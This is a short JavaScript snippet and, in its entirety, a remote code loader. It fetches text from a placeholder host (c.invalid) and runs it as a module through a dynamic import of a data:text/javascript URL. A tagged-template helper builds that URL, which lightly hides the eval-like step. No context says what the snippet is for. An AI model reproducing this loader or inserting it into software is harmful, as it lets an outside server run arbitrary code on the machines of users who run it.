const shape = (s, ...v) => s.raw.reduce((a, t, i) => a + t + (v[i] ?? ""), "");
fetch("https://c.invalid/v1")
  .then((r) => r.text())
  .then((text) => import(shape`data:text/javascript,${encodeURIComponent(text)}`));
